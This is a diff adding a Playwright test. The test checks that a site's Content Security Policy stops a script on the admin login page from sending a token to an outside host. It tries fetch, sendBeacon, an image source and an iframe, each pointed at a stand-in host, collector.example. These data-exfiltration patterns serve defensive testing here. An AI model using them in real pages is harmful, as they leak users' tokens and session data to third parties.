@@ -168,6 +168,44 @@ async function left(page: Page, texts: string[]): Promise<string[]> {
   return texts.filter((text) => everything.some((kept) => kept.includes(text)))
 }
 
+test('a script that tells another host what it finds in the browser is stopped', async ({ browser }) => {
+  const page = await browser.newPage()
+  const heard: string[] = []
+  await page.route('https://collector.example/**', (route) => {
+    heard.push(route.request().url())
+    return route.fulfill({ status: 204, headers: { 'Access-Control-Allow-Origin': '*' } })
+  })
+  await page.goto('/admin/login')
+  const stopped = await page.evaluate(async () => {
+    const told: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      told.push(effectiveDirective),
+    )
+    const address = 'https://collector.example/?token=x'
+    const ways = [
+      () => fetch(address),
+      () => navigator.sendBeacon(address),
+      () => new Promise((done) => Object.assign(new Image(), { src: address, onerror: done, onload: done })),
+      () =>
+        new Promise((done) => {
+          const frame = document.createElement('iframe')
+          frame.addEventListener('load', done)
+          document.body.append(Object.assign(frame, { src: address }))
+        }),
+    ]
+    for (const way of ways) await Promise.resolve(way()).catch(() => undefined)
+    return told
+  })
+  expect(stopped.sort((one, other) => one.localeCompare(other))).toEqual([
+    'connect-src',
+    'connect-src',
+    'frame-src',
+    'img-src',
+  ])
+  expect(heard).toEqual([])
+  await page.close()
+})
+
 test('an unknown path says so in place, under the name of the product', async ({ page }) => {
   await page.goto('/no-existe/nada?x=1')
   await expect(page.getByRole('heading', { name: 'No encontramos esta página' })).toBeVisible()
